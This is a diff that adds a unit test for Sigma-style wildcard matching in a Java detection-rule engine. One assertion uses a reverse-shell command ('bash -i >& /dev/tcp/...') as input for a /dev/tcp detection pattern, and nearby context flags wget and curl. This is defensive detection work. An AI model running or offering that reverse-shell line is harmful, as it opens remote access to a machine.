@@ -22,6 +22,22 @@ class DetectionMatchingTest {
     }
 
     @Test
+    void globsMatchLikeSigmaWildcards() {
+        assertThat(ValueMatcher.of("a*b?d", java.util.List.of()).matches("AXXbcd")).isTrue();
+        assertThat(ValueMatcher.of("a*b?d", java.util.List.of()).matches("abd")).isFalse();
+        assertThat(ValueMatcher.of("*.sh", java.util.List.of()).matches("/tmp/x.sh")).isTrue();
+        assertThat(ValueMatcher.of("*.sh", java.util.List.of()).matches("/tmp/x.shx")).isFalse();
+        assertThat(ValueMatcher.of("/dev/tcp/*", java.util.List.of("contains")).matches("bash -i >& /dev/tcp/1.2.3.4/4444")).isTrue();
+        assertThat(ValueMatcher.of("ab*ab", java.util.List.of()).matches("ab")).isFalse();
+        assertThat(ValueMatcher.of("ab*ab", java.util.List.of()).matches("abab")).isTrue();
+        assertThat(ValueMatcher.of("*", java.util.List.of()).matches("")).isTrue();
+        assertThat(ValueMatcher.of("", java.util.List.of()).matches("x")).isFalse();
+        assertThat(ValueMatcher.of("x?", java.util.List.of("startswith")).matches("xyz")).isTrue();
+        assertThat(ValueMatcher.of("a\\*", java.util.List.of()).matches("a*")).isTrue();
+        assertThat(ValueMatcher.of("a\\*", java.util.List.of()).matches("ab")).isFalse();
+    }
+
+    @Test
     void stringModifiersListsAndAll() {
         DetectionRule any = rule("  s:\n    process.command_line|contains: [wget, curl]\n  condition: s\n");
         assertThat(hit(any, TestEvent.security("sudo").with("process.command_line", "/usr/bin/CURL -O x"))).isTrue();
